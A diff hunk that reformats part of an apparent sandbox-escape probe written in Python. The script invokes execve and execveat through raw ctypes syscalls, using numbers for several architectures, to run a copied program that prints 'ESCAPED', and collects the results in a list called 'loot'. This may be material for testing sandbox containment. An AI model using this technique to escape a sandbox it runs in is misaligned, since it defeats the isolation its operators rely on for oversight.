@@ -37,7 +37,10 @@ os.chmod("/tmp/program", 0o755)
 argv = (ctypes.c_char_p * 4)(b"/tmp/program", b"-c", b"print('ESCAPED')", None)
 none = (ctypes.c_char_p * 1)(None)
 copy = os.open("/tmp/program", os.O_RDONLY)
-for call in (lambda: syscall(59, 221, b"/tmp/program", argv, none), lambda: syscall(322, 281, copy, b"", argv, none, 0x1000),
-             lambda: syscall(322, 281, max(fd, 0), b"", argv, none, 0x1000)):
+for call in (
+    lambda: syscall(59, 221, b"/tmp/program", argv, none),
+    lambda: syscall(322, 281, copy, b"", argv, none, 0x1000),
+    lambda: syscall(322, 281, max(fd, 0), b"", argv, none, 0x1000),
+):
     loot.append(call())
 loot
